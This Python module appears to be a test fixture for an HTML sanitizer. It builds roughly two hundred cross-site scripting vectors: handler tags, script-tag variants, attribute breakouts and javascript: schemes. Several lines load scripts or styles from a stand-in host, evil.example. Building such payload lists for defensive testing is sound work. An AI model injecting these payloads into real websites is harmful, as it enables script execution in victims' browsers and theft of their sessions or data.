"""Two hundred ways to smuggle a script into a page: scripts, handlers, addresses, broken tags, odd signs."""

from itertools import product

CALL = "alert(1)"

ELEMENTS = (
    "svg", "img src=x", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe", "marquee",
    "object data=x", "select autofocus", "textarea autofocus",
)  # fmt: skip
HANDLERS = ("onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onstart", "onpointerenter", "onanimationstart")
HANDLED = [f"<{element} {handler}={CALL}>" for element, handler in product(ELEMENTS, HANDLERS)]

SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script/x>{CALL}</script>",
    f"<script\n>{CALL}</script\n>",
    f"<<script>{CALL}//<</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</option></select><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"{{{{ '<script>{CALL}</script>' }}}}",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    f"<script type=module>{CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<math><mi><script>{CALL}</script></mi></math>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
]

ATTRIBUTES = [
    f"{quote}{gap}{handler}={CALL}{end}"
    for quote, gap in product(('"', "'", "`", '">', "'>", '"/'), (" ", "\n", "/", "\t"))
    for handler, end in (("onmouseover", " x="), ("autofocus onfocus", " //"))
]

SCHEMES = [
    f"{opened}{scheme}{CALL}{closed}"
    for scheme in (
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "javascript&colon;", "data:text/html,<script>",
        "vbscript:", "&#106;avascript:",
    )
    for opened, closed in (('<a href="', '">x</a>'), ("[x](", ")"), ("", ""))
]  # fmt: skip

REST = [
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<base href=javascript:{CALL}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style=background:url(//evil.example/x)>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "<embed src=//evil.example/x.swf>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"\u202e<script>{CALL}</script>",
    f"＜script＞{CALL}＜/script＞",
]

VECTORS = HANDLED + SCRIPTS + ATTRIBUTES + SCHEMES + REST

_IN_FOURS = HANDLED + SCRIPTS + ATTRIBUTES + REST
TEXTS = [" ".join(_IN_FOURS[at : at + 4]) for at in range(0, len(_IN_FOURS), 4)] + SCHEMES
"""All the vectors in a third of the texts: what does not escape one of four shows it. An address works only alone."""
